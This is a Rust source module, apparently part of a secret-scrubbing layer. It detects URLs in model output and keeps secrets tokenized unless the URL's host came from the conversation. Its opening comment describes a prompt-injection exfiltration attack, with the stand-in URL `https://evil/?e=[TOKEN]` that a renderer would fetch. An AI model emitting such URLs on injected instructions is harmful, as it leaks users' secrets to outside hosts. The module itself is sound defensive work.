//! Where a text is inside a URL, and of which host.
//!
//! An injected instruction may make a model write `https://evil/?e=[TOKEN]`, and
//! a renderer fetches it. So a token stays inside a URL unless the conversation
//! brought the URL's host. A URL starts where a browser, a Markdown renderer or a
//! linkifier would see one, and ends where the most generous of them would end
//! it; where the two readings differ, the token stays.

use std::collections::BTreeSet;

/// Hosts are shorter (RFC 1035, section 2.3.4), the rest is for port and noise.
const AUTHORITY_CHARS_MAX: usize = 300;
/// How far back a URL's start is looked for.
pub(super) const LOOKBACK_BYTES_MAX: usize = 300;

/// Schemes whose authority browsers read with any number of slashes (WHATWG URL,
/// "special scheme").
const SPECIAL_SCHEMES: [&str; 5] = ["http", "https", "ws", "wss", "ftp"];
/// Schemes that carry or run what follows.
const OPAQUE_SCHEMES: [&str; 5] = ["data", "javascript", "vbscript", "blob", "file"];

/// Follows an output and knows when it is inside a URL.
pub(super) struct UrlGuard {
    state: State,
    ending: Ending,
    in_json: bool,
}

enum State {
    Outside,
    /// One slash was seen, and what two would mean.
    Slash {
        ending: Ending,
    },
    Authority(String),
    Inside {
        is_allowed: bool,
        previous: [char; 2],
    },
}

/// What ends the URL.
#[derive(Clone, Copy, Default)]
struct Ending {
    /// The closing counterpart of what stands in front of it.
    closer: Option<char>,
    /// Only the closer ends it: a link's destination, an attribute, a JSON string.
    is_strict: bool,
    /// Open parentheses within the URL.
    depth: u32,
    after_backslash: bool,
}

impl UrlGuard {
    pub(super) fn new(in_json: bool) -> UrlGuard {
        UrlGuard { state: State::Outside, ending: Ending::default(), in_json }
    }

    /// Whether the output is within a URL.
    pub(super) fn is_inside(&self) -> bool {
        matches!(self.state, State::Authority(_) | State::Inside { .. })
    }

    /// Whether a token at this place stays a token.
    pub(super) fn blocks(&self) -> bool {
        matches!(self.state, State::Authority(_) | State::Inside { is_allowed: false, .. })
    }

    /// Something that is part of no URL's start was put out.
    pub(super) fn interrupt(&mut self) {
        if matches!(self.state, State::Slash { .. }) {
            self.state = State::Outside;
        }
    }

    /// Takes the next character of the output; `before` is the output up to it,
    /// from where the last value ended. Outside a URL only the characters of
    /// [`may_start_url`] need to come here.
    pub(super) fn feed(&mut self, c: char, before: &str, hosts: &mut impl Hosts) {
        match &mut self.state {
            State::Outside | State::Slash { .. } => self.feed_outside(c, before, hosts),
            State::Authority(_) => self.feed_authority(c, hosts),
            State::Inside { .. } => self.feed_inside(c),
        }
    }

    fn feed_outside(&mut self, c: char, before: &str, hosts: &mut impl Hosts) {
        let slash = match std::mem::replace(&mut self.state, State::Outside) {
            State::Slash { ending } => Some(ending),
            _ => None,
        };
        match c {
            '/' | '\\' => match slash {
                Some(ending) => self.start(ending, String::new()),
                None => self.first_slash(c, before, hosts),
            },
            ':' => self.after_scheme(before),
            '?' | '#' => self.after_domain(before, hosts),
            '.' => {
                let word = word_before(before, |c| c.is_alphanumeric() || c == '-' || c == '_');
                if word.eq_ignore_ascii_case("www") {
                    self.start(self.ending_at(before, word), "www.".to_owned());
                }
            }
            _ => {}
        }
    }

    fn start(&mut self, ending: Ending, authority: String) {
        self.ending = ending;
        self.state = State::Authority(authority);
    }

    fn first_slash(&mut self, c: char, before: &str, hosts: &mut impl Hosts) {
        let scheme_end = strip_colon(before);
        let scheme = scheme_end.map(|before| (before, word_before(before, is_scheme_char)));
        if let Some((before, word)) = scheme.filter(|(_, word)| !word.is_empty()) {
            if c == '/' {
                self.state = State::Slash { ending: self.ending_at(before, word) };
            }
            return;
        }
        let ending = self.ending_at(before, "");
        let is_fresh =
            before.chars().next_back().is_none_or(|last| last.is_whitespace() || "\"'`<>([{=|,;“‘«*".contains(last));
        if if c == '/' { is_fresh } else { ending.is_strict } {
            self.state = State::Slash { ending };
        } else if c == '/' {
            self.after_domain(before, hosts);
        }
    }

    fn after_scheme(&mut self, before: &str) {
        let word = word_before(before, is_scheme_char);
        let is_any_of = |schemes: &[&str]| schemes.iter().any(|scheme| word.eq_ignore_ascii_case(scheme));
        if is_any_of(&SPECIAL_SCHEMES) {
            self.start(self.ending_at(before, word), String::new());
        } else if is_any_of(&OPAQUE_SCHEMES) {
            self.ending = self.ending_at(before, word);
            self.state = State::Inside { is_allowed: false, previous: ['\0'; 2] };
        }
    }

    /// `host.tld/`, `host.tld:8080/` and `host.tld?` are linked by many chats.
    fn after_domain(&mut self, before: &str, hosts: &mut impl Hosts) {
        let authority = word_before(before, |c| c.is_alphanumeric() || matches!(c, '.' | '-' | ':'));
        let in_front = before[..before.len() - authority.len()].chars().next_back();
        if in_front.is_some_and(|c| matches!(c, '@' | '/' | '\\' | '_')) {
            return;
        }
        if let Some(host) = host_of(authority).filter(|host| is_domain(host)) {
            self.ending = self.ending_at(before, authority);
            self.state = State::Inside { is_allowed: hosts.visit(host), previous: ['\0'; 2] };
        }
    }

    fn feed_authority(&mut self, c: char, hosts: &mut impl Hosts) {
        let ends = self.ends(c);
        let State::Authority(authority) = &mut self.state else { return };
        let is_slash = matches!(c, '/' | '\\');
        if !ends && is_slash && authority.is_empty() {
            return;
        }
        if ends || is_slash || matches!(c, '?' | '#') {
            // Browsers end the authority at a backslash, RFC 3986 does not.
            let is_allowed = c != '\\' && host_of(authority).is_some_and(|host| hosts.visit(host));
            self.state = if ends { State::Outside } else { State::Inside { is_allowed, previous: ['\0', c] } };
        } else if authority.len() < AUTHORITY_CHARS_MAX {
            authority.push(c);
        }
    }

    fn feed_inside(&mut self, c: char) {
        if self.ends(c) {
            self.state = State::Outside;
            return;
        }
        let State::Inside { is_allowed, previous } = &mut self.state else { return };
        // A URL within the URL may be what a redirect follows.
        if *is_allowed && c == '/' && *previous == [':', '/'] {
            *is_allowed = false;
        }
        *previous = [previous[1], c];
    }

    fn ends(&mut self, c: char) -> bool {
        let ending = &mut self.ending;
        let is_escaped = ending.after_backslash;
        ending.after_backslash = c == '\\' && !is_escaped;
        if self.in_json && c == '"' && !is_escaped {
            return true;
        }
        match (ending.closer, c) {
            (Some(')'), '(') => ending.depth += 1,
            (Some(')'), ')') if ending.depth > 0 => ending.depth -= 1,
            (Some(closer), c) if c == closer => return !(self.in_json && ending.is_strict && closer == '"'),
            // A line break ends what a line of Markdown holds.
            (Some(')' | '>'), '\n') => return true,
            _ => {}
        }
        let ends_loose = c.is_whitespace() || c == '<' || is_wide_punctuation(c);
        !ending.is_strict && ends_loose
    }

    /// What ends a URL that starts with `word` at the end of `before`.
    fn ending_at(&self, before: &str, word: &str) -> Ending {
        let front = before[..before.len() - word.len()].trim_end_matches([' ', '\t']);
        let Some(last) = front.chars().next_back() else {
            return Ending::default();
        };
        let is_adjacent = front.len() + word.len() == before.len();
        let rest = front[..front.len() - last.len_utf8()].trim_end_matches('\\');
        let opens_value = |c: char| matches!(c, '"' | '\'') && rest.trim_end().ends_with('=');
        let is_destination = front.ends_with("](") || front.ends_with("](<");
        let opens_json = self.in_json && last == '"' && !front.ends_with("\\\"");
        let is_strict = is_destination || opens_value(last) || opens_json;
        let closer = if is_adjacent || is_strict { closer_of(last) } else { None };
        Ending { closer, is_strict, ..Ending::default() }
    }

    /// A value was put out that is itself a URL, or a host: what follows
    /// continues it.
    pub(super) fn feed_url_value(&mut self, value: &str, before: &str, hosts: &mut impl Hosts) {
        let after_scheme = value.split_once("://").map_or(value, |(_, rest)| rest);
        self.start(self.ending_at(before, ""), String::new());
        for c in after_scheme.chars() {
            if self.is_inside() {
                self.feed(c, "", hosts);
            }
        }
    }
}

/// Whether a URL may be seen to start with this character.
pub(super) fn may_start_url(c: char) -> bool {
    matches!(c, '/' | '\\' | ':' | '?' | '#' | '.')
}

/// What is done with the host of each URL.
pub(super) trait Hosts {
    /// Whether tokens are restored in URLs of `host`.
    fn visit(&mut self, host: String) -> bool;
}

/// Asks whether the conversation brought it.
impl Hosts for &BTreeSet<String> {
    fn visit(&mut self, host: String) -> bool {
        self.contains(&host)
    }
}

/// Writes it down.
impl Hosts for Vec<String> {
    fn visit(&mut self, host: String) -> bool {
        self.push(host);
        true
    }
}

/// The hosts of the URLs in `text`.
pub(in crate::scrub) fn hosts_in(text: &str) -> Vec<String> {
    let mut hosts = Vec::new();
    let mut guard = UrlGuard::new(false);
    for (at, c) in text.char_indices() {
        if guard.is_inside() || may_start_url(c) {
            guard.feed(c, lookback(&text[..at]), &mut hosts);
        } else {
            guard.interrupt();
        }
    }
    guard.feed(' ', "", &mut hosts);
    hosts
}

/// The end of `text` that a URL's start is looked for in.
pub(super) fn lookback(text: &str) -> &str {
    &text[text.ceil_char_boundary(text.len().saturating_sub(LOOKBACK_BYTES_MAX))..]
}

/// The host of an authority (RFC 3986, section 3.2) in lower case without port
/// and trailing dot. `None` where parsers disagree: user information, escapes,
/// backslashes, white space.
fn host_of(authority: &str) -> Option<String> {
    let host = match authority.rsplit_once(':') {
        Some((host, port)) if port.bytes().all(|b| b.is_ascii_digit()) => host,
        Some((_, rest)) if !authority.starts_with('[') => rest,
        _ => authority,
    };
    let host = host.strip_suffix('.').unwrap_or(host);
    let is_plain = |c: char| c.is_alphanumeric() || matches!(c, '.' | '-' | '_');
    let is_ipv6 = host.starts_with('[')
        && host.ends_with(']')
        && host[1..host.len() - 1].chars().all(|c| c.is_ascii_hexdigit() || matches!(c, ':' | '.'));
    let is_whole = authority.len() < AUTHORITY_CHARS_MAX;
    (is_whole && !host.is_empty() && (is_ipv6 || host.chars().all(is_plain))).then(|| host.to_lowercase())
}

fn is_domain(host: &str) -> bool {
    let Some((labels, last)) = host.rsplit_once('.') else {
        return false;
    };
    let is_top = last.chars().count() >= 2 && (last.chars().all(char::is_alphabetic) || last.starts_with("xn--"));
    is_top && labels.split('.').all(|label| !label.is_empty())
}

fn is_scheme_char(c: char) -> bool {
    c.is_ascii_alphanumeric() || matches!(c, '+' | '-' | '.')
}

/// The longest end of `text` of such characters.
fn word_before(text: &str, is_part: impl Fn(char) -> bool) -> &str {
    let len: usize = text.chars().rev().take_while(|c| is_part(*c)).map(char::len_utf8).sum();
    &text[text.len() - len..]
}

/// `before` without the colon at its end, however it is spelled.
fn strip_colon(before: &str) -> Option<&str> {
    let spellings = [":", "&colon;", "&#58;", "&#x3a;", "&#x3A;", "\\u003a", "\\u003A", "%3A", "%3a"];
    let before = before.strip_suffix('\\').unwrap_or(before);
    spellings.iter().find_map(|colon| before.strip_suffix(colon))
}

fn closer_of(opener: char) -> Option<char> {
    Some(match opener {
        '"' | '\'' | '`' | '|' => opener,
        '(' => ')',
        '[' => ']',
        '{' => '}',
        '<' => '>',
        '“' => '”',
        '‘' => '’',
        '«' => '»',
        '「' => '」',
        '（' => '）',
        _ => return None,
    })
}

/// Punctuation of scripts that put no space behind it.
fn is_wide_punctuation(c: char) -> bool {
    matches!(c, '\u{3000}'..='\u{303f}' | '\u{ff00}'..='\u{ff0f}' | '\u{ff1a}'..='\u{ff20}' | '\u{ff3b}'..='\u{ff40}' | '\u{ff5b}'..='\u{ff65}')
}
